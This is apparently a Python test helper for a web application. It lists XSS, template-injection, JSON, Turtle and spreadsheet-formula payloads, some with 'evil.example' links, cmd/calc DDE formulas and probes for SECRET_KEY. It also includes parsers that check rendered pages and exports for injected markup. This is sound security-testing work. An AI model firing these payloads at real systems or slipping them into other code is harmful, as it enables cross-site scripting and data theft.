"""Payloads an attacker types into any field, and the checks that say a rendered page did not obey one.

``NVXSS`` marks the part that would run: no element, attribute or script of a rendered page may
carry it as markup. Every payload that brings in an element puts the mark (or a forbidden tag, an
event handler, an evil.example link) on that element itself, so an injected element is found by
its own attributes, never by guessing which text around it the templates wrote. The checks parse
the output (never grep it for a string): an escaped payload passes, a real breakout (a new tag, a
new attribute, a javascript: link) fails.
"""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

MARK = "NVXSS"

PAYLOADS: list[str] = [
    # Script elements
    f"<script>{MARK}(1)</script>",
    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    f"<svg><script>{MARK}(1)</script></svg>",
    f"<scr<script>ipt>{MARK}(1)</scr</script>ipt>",
    # Event handlers
    f"<img src=x onerror={MARK}(1)>",
    f"<svg onload={MARK}(1)>",
    f"<svg/onload={MARK}(1)>",
    f"<body onload={MARK}(1)>",
    f"<details open ontoggle={MARK}(1)>",
    f"<input autofocus onfocus={MARK}(1)>",
    f"<img src=x onerror={MARK}&#40;1&#41;>",
    f'<div hx-on:load="{MARK}(1)">x</div>',
    f'<a hx-post="/logout/?{MARK}" hx-trigger="load" hx-swap="outerHTML">x</a>',
    # javascript:, data:, vbscript: URLs
    f"javascript:{MARK}(1)",
    f"JaVaScRiPt:{MARK}(1)",
    f" javascript:{MARK}(1)",
    f"java\tscript:{MARK}(1)",
    f"vbscript:{MARK}(1)",
    f"data:text/html,<script>{MARK}(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5OVlhTUygxKTwvc2NyaXB0Pg==",
    f'<a href="javascript:{MARK}(1)">x</a>',
    f'<iframe src="javascript:{MARK}(1)"></iframe>',
    f'<object data="javascript:{MARK}(1)"></object>',
    f'<embed src="javascript:{MARK}(1)">',
    f'<form action="javascript:{MARK}(1)"><button>x</button></form>',
    f'<button formaction="javascript:{MARK}(1)">x</button>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{MARK}(1)">',
    f'<base href="javascript:{MARK}(1)//">',
    f"</a><a href=https://evil.example/>{MARK}</a>",
    # Attribute and element breakouts
    f'"><script>{MARK}(1)</script>',
    f"'><script>{MARK}(1)</script>",
    f'" onmouseover="{MARK}(1)',
    f"' onmouseover='{MARK}(1)",
    f'" autofocus onfocus="{MARK}(1)" x="',
    f'"/><svg/onload={MARK}(1)>',
    f"</textarea><script>{MARK}(1)</script>",
    f"</title><script>{MARK}(1)</script>",
    f"</script><script>{MARK}(1)</script>",
    f"</style><script>{MARK}(1)</script>",
    f"<!--<script>{MARK}(1)</script>-->",
    f"--><script>{MARK}(1)</script><!--",
    f"<![CDATA[<script>{MARK}(1)</script>]]>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}(1)></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={MARK}(1)>">',
    # Styles
    f"<style>@import '//evil.example/{MARK}.css';</style>",
    f'<div style="background:url(javascript:{MARK}(1))">x</div>',
    f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    # Entities, already escaped text, unicode tricks
    f"&lt;script&gt;{MARK}(1)&lt;/script&gt;",
    f"&#60;script&#62;{MARK}(1)&#60;/script&#62;",
    f"&#x3C;img src=x onerror={MARK}(1)&#x3E;",
    f"\\u003cscript\\u003e{MARK}(1)\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{MARK}(1)\uff1c/script\uff1e",
    f"<scr\u200bipt>{MARK}(1)</script>",
    f"\u202e<script>{MARK}(1)</script>",
    f"\u2028<script>{MARK}(1)</script>\u2029",
    f"\ufeff<img src=x onerror={MARK}(1)>",
    # Template syntax (Django, Jinja, JS, Angular)
    f"{{{{ 7|add:7 }}}}{MARK}",
    f"{{% debug %}}{{{{ request.user.password }}}}{MARK}",
    f"{{{{ settings.SECRET_KEY }}}}{MARK}",
    f"${{7*7}}{MARK}",
    f"{{{{constructor.constructor('{MARK}(1)')()}}}}",
    # Script-string, JSON and Turtle breakouts
    f'"; {MARK}(1); "',
    f"'-{MARK}(1)-'",
    f'"}}]}}</script><script>{MARK}(1)</script>',
    f'x""" ; <https://evil.example/{MARK}> "y" . <https://evil.example/a> <https://evil.example/b> """z',
    f'x" . <https://evil.example/{MARK}> <https://evil.example/p> "y',
    # Spreadsheet formulas
    f'=HYPERLINK("https://evil.example/{MARK}","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # A polyglot
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={MARK}() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    f"</scRipt/--!>\\x3csVg/<sVg/oNloAd={MARK}()//>\\x3e",
]


def payload_groups(limit: int = 260) -> list[list[str]]:
    """The payloads in groups whose text, joined by spaces, fits every field (a source name holds 300).

    One world per group keeps the run short; each payload is still checked on its own, and a page
    with several of them escapes each or shows the one it did not.
    """
    groups: list[list[str]] = [[]]
    for payload in PAYLOADS:
        if groups[-1] and len(" ".join([*groups[-1], payload])) > limit:
            groups.append([])
        groups[-1].append(payload)
    return groups


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "ping"}
DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
# What the templates themselves may contain; anything else is markup an input brought in.
FORBIDDEN_TAGS = {"iframe", "object", "embed", "frame", "frameset", "base", "applet", "style", "math", "noscript"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.text: list[str] = []
        self._script: dict[str, str | None] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))
        if tag == "script":
            self._script = dict(attrs)
            self.scripts.append((self._script, ""))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            attrs, body = self.scripts[-1]
            self.scripts[-1] = (attrs, body + data)
        else:
            self.text.append(data)


def _scheme_of(value: str) -> str:
    # Browsers drop whitespace and control characters inside and before a scheme ("java\tscript:").
    return re.sub(r"[\x00-\x20\x7f-\x9f\u200b\ufeff]", "", value)


DATA_SCRIPTS = {"application/json", "application/ld+json"}  # data, never run (json_script, JSON-LD)


def html_problems(body: str, *, library_page: bool = False) -> list[str]:
    """What in a rendered page did not come from our templates: an injected tag, attribute or link.

    ``library_page``: a library's page (DRF's browsable API) with its own <style> and style
    attributes, which the CSP keeps from applying, and links it makes of the http(s) addresses in
    the data; a javascript: link or any other injected markup still counts.
    """
    parser = _Collector()
    parser.feed(body)
    parser.close()
    problems = []
    for tag, attrs in parser.elements:
        if MARK.lower() in tag:
            problems.append(f"<{tag}> from input")
        if tag in FORBIDDEN_TAGS and not (library_page and tag == "style"):
            problems.append(f"<{tag}>")
        if (
            tag == "link"
            and dict(attrs).get("rel") != "icon"
            and not (dict(attrs).get("href") or "").startswith("/static/")
        ):
            problems.append(f"<link {attrs}>")
        if tag == "meta" and (dict(attrs).get("http-equiv") or "content-type").lower() != "content-type":
            problems.append(f"<meta {attrs}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name.startswith("hx-on") or MARK.lower() in name:
                problems.append(f"<{tag} {name}=...>")
            if name == "style" and not library_page:
                problems.append(f"<{tag} style=...> (inline style)")
            if name in URL_ATTRIBUTES:
                if DANGEROUS_SCHEME.match(_scheme_of(value)) and not (tag == "link" and value == "data:,"):
                    problems.append(f"<{tag} {name}={value[:60]!r}>")
                if (urlsplit(_scheme_of(value)).hostname or "").endswith("evil.example") and not library_page:
                    problems.append(f"<{tag} {name}={value[:60]!r}> (a link an input brought in)")
            if name.startswith("hx-") and MARK in value:
                problems.append(f"<{tag} {name}={value[:60]!r}>")
    for attrs, script in parser.scripts:
        src = attrs.get("src") or ""
        if script.strip() and (attrs.get("type") or "").lower() not in DATA_SCRIPTS:
            problems.append(f"inline <script> {script[:60]!r}")
        if src and not src.startswith("/static/"):
            problems.append(f"<script src={src[:60]!r}>")
    return problems


def page_text(body: str) -> str:
    parser = _Collector()
    parser.feed(body)
    parser.close()
    return "".join(parser.text)


def json_problems(body: bytes, payload: str) -> list[str]:
    """A JSON answer is data: it parses, and the payload comes back as the string it was."""
    try:
        data = json.loads(body)
    except ValueError as exc:
        return [f"not JSON: {exc}"]
    strings: list[str] = []

    def walk(value: object) -> None:
        if isinstance(value, str):
            strings.append(value)
        elif isinstance(value, dict):
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    walk(data)
    return [] if any(payload.strip() in s for s in strings) else ["the payload did not come back as data"]


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_problems(body: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(body, newline="")))
    if not rows:
        return ["empty CSV"]
    width = len(rows[0])
    problems = [f"row {n} has {len(row)} cells, not {width}" for n, row in enumerate(rows) if len(row) != width]
    for n, row in enumerate(rows[1:], start=1):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                problems.append(f"row {n}: a cell a spreadsheet runs: {cell[:40]!r}")
    return problems


def turtle_problems(body: str, payload: str) -> list[str]:
    """Turtle parses, names no IRI an input brought in, and holds the payload as a literal."""
    import rdflib

    graph = rdflib.Graph()
    try:
        graph.parse(data=body, format="turtle")
    except Exception as exc:  # noqa: BLE001 - any parse failure is the finding
        return [f"not Turtle: {exc}"]
    problems = []
    for triple in graph:
        for term in triple:
            if isinstance(term, rdflib.URIRef) and "evil.example" in str(term):
                problems.append(f"an IRI from input: {term}")
    if not any(isinstance(o, rdflib.Literal) and payload.strip() in str(o) for o in graph.objects()):
        problems.append("the payload did not come back as a literal")
    return problems
